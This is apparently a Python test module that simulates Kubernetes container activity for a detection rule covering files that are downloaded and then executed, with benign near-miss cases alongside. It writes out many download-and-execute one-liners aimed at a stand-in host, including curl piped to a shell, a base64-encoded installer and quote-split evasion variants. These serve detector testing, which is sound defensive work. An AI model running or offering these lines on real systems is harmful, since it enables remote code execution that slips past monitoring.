"""Files that are fetched and then run, at once or much later, and fetches that nothing runs."""

from __future__ import annotations

from simulation.attacks.bystanders import bystander
from simulation.attacks.register import careful, near_miss, straight
from simulation.attacks.scene import Scene
from simulation.attacks.shells import Shell, Started
from simulation.attacks.tables import Place, encoded, line, run, table
from simulation.clock import HOUR, SECOND
from simulation.schedule import Life

COMBO = "K8S.NODE_DownloadAndRunCombo"
WEB_SHELL = "K8S.NODE_Webshell"
WAY = "K8S.NODE_SuspectDownloadArtifacts"
RUNNER = ("ci", "gitlab-runner")
SITES = ("storefront", "api-node", "nginx")
SCRIPT = "https://get.pale-harbor.example/setup.sh"
TOOL = "https://get.pale-harbor.example/tool"
PIPED = f"curl -fsSL {SCRIPT} | bash -s -- --quiet"
MAKE = ["mkdir -p /srv/.d"]
"""What the script that is fetched does."""
NAMES = "import json,sys;print([i['name'] for i in json.load(sys.stdin)])"
HIDDEN = "import urllib.request as u;u.urlretrieve('https://get.pale-harbor.example/t.py','/srv/t.py')"

table(
    COMBO,
    straight=[
        line(
            f"curl -fsSL {SCRIPT} | sh",
            runs=[f"curl -fsSL {SCRIPT}", Started("sh", MAKE)],
            images=SITES,
            also=(WEB_SHELL, WAY),
        ),
        line(f"wget -q {TOOL} && chmod +x tool && ./tool", at=Place.EXEC, cwd="/srv"),
        line(
            f'sh -c "$(curl -fsSL {SCRIPT})"',
            runs=[f"curl -fsSL {SCRIPT}", Started(("sh", "-c", "#!/bin/sh\nmkdir -p /srv/.d"), MAKE)],
            at=Place.EXEC,
        ),
        line(
            f"curl -fsS -o f {TOOL}; sh f",
            runs=[f"curl -fsS -o f {TOOL}", Started("sh f", MAKE)],
            at=Place.EXEC,
            cwd="/srv",
        ),
    ],
    careful=[
        line(
            f"echo {encoded(PIPED)} | base64 -d | sh",
            runs=["base64 -d", Started("sh", [f"curl -fsSL {SCRIPT}", Started("bash -s -- --quiet", MAKE)])],
            at=Place.EXEC,
        ),
        line(
            f"bash <(wget -qO- {SCRIPT})",
            runs=[f"wget -qO- {SCRIPT}", Started("bash /dev/fd/63", MAKE)],
            interpreter="bash",
            at=Place.EXEC,
        ),
        line(f". <(curl -s {SCRIPT})", runs=[f"curl -s {SCRIPT}", *MAKE], interpreter="bash", at=Place.HOST),
        line(
            f'u={SCRIPT}; c"u"rl -s $u | b\\ash',
            runs=[f"curl -s {SCRIPT}", Started("bash", MAKE)],
            interpreter="bash",
            at=Place.EXEC,
        ),
        line(
            f"busybox wget -q -O - {SCRIPT} | tee /srv/log | busybox sh",
            runs=[f"busybox wget -q -O - {SCRIPT}", "tee /srv/log", Started("busybox sh", MAKE)],
            at=Place.EXEC,
        ),
    ],
    quiet=[
        run("curl -fsSL -o /srv/report.tgz https://artifacts.shop.example/report.tgz", at=Place.EXEC),
        line("curl -fsS http://orders.shop.svc:8080/stats | jq .total", at=Place.EXEC),
        line("curl -fsS http://orders.shop.svc:8080/stats | python3 -m json.tool", at=Place.EXEC),
        line(
            f'curl -fsS http://orders.shop.svc:8080/items | python3 -c "{NAMES}"',
            runs=["curl -fsS http://orders.shop.svc:8080/items", ("python3", "-c", NAMES)],
            at=Place.EXEC,
        ),
        line(
            "curl -fsS http://orders.shop.svc:8080/metrics | perl -ne 'print if /^http_/'",
            runs=["curl -fsS http://orders.shop.svc:8080/metrics", ("perl", "-ne", "print if /^http_/")],
            at=Place.EXEC,
        ),
        line(
            "curl -fsSL https://nodejs.org/dist/v22.20.0/node-v22.20.0-linux-x64.tar.gz | tar xz -C /opt",
            at=Place.ENTRY,
            workload=RUNNER,
        ),
        line("tar cf - /srv/pages | kubectl exec -i web-0 -- tar xf - -C /", at=Place.HOST),
    ],
)


@straight(COMBO)
def file_is_run_minutes_later(scene: Scene) -> Life:
    """Somebody in a container fetches a file, and runs it some minutes later."""
    shell = scene.exec_shell(scene.person(admin=True), scene.victim())
    yield scene.pause()
    shell.run(f"curl -fsSL -o /opt/tool {TOOL}", COMBO)
    yield scene.pause(120, 400)
    shell.run("chmod 755 /opt/tool", COMBO)
    shell.run("/opt/tool --all", COMBO, after=2 * SECOND, seconds=3)


@careful(COMBO)
def file_is_run_hours_later(scene: Scene) -> Life:
    """A file is fetched, and moved under another name; hours later another process of the container runs it."""
    # Of a workload whose pods stay: no rollout is to come between.
    shell = scene.exec_shell(scene.person(admin=True), scene.cluster.workload(*RUNNER))
    container = shell.program.container
    assert container is not None
    assert container.main is not None
    yield scene.pause()
    shell.run(f"wget -q -P /opt {TOOL}.bin", COMBO)
    yield scene.pause()
    shell.line("cp /opt/tool.bin /srv/rotate && chmod +x /srv/rotate", COMBO)
    yield scene.chance.between(2 * HOUR, 5 * HOUR)
    Shell(scene, container.main).run("/srv/rotate --daily", COMBO, seconds=5)


@careful(COMBO)
def script_is_run_by_an_interpreter(scene: Scene) -> Life:
    """A script is fetched by one interpreter, and given to another by a relative path."""
    shell = scene.exec_shell(scene.person(admin=True), scene.victim("api-python"))
    yield scene.pause()
    shell.run(("python3", "-c", HIDDEN), COMBO)
    yield scene.pause(300, 900)
    shell.run("python3 ../srv/./t.py", COMBO, cwd="/app", seconds=4)


@near_miss(COMBO)
def another_file_of_that_name(scene: Scene) -> Life:
    """A file is fetched into one folder, and a program of the same name in another folder is run."""
    shell = scene.exec_shell(scene.person(admin=True), scene.victim())
    yield scene.pause()
    shell.run("curl -fsSL -o /srv/data/report https://artifacts.shop.example/daily/report")
    yield scene.pause(30, 200)
    shell.run("/usr/local/bin/report --month")


@near_miss(COMBO)
def package_is_installed(scene: Scene) -> Life:
    """An image build installs a package, whose scripts the package manager runs."""
    shell = bystander(scene, "ci", "image-build", "registry.example/ci/builder:3", ("/busybox/sleep", "3600"))
    apt = shell.run("apt-get install -y --no-install-recommends tzdata", seconds=12)
    shell.run("/usr/lib/apt/methods/https", under=apt, after=SECOND, seconds=4)
    dpkg = shell.run("/usr/bin/dpkg --configure tzdata", under=apt, after=6 * SECOND, seconds=3)
    shell.run("/bin/sh /var/lib/dpkg/info/tzdata.postinst configure", under=dpkg, after=7 * SECOND, seconds=1)
    yield 20 * SECOND


@near_miss(COMBO)
def page_is_fetched_again(scene: Scene) -> Life:
    """A job fetches a list of prices every quarter of an hour, and never runs it."""
    shell = bystander(scene, "shop", "prices", "registry.example/shop/prices:2.1.0", ("/app/prices", "--loop"))
    for _ in range(3):
        shell.run("wget -q -O /data/prices.csv https://prices.shop.example/today.csv")
        shell.run("gzip -kf /data/prices.csv", after=2 * SECOND)
        yield 900 * SECOND
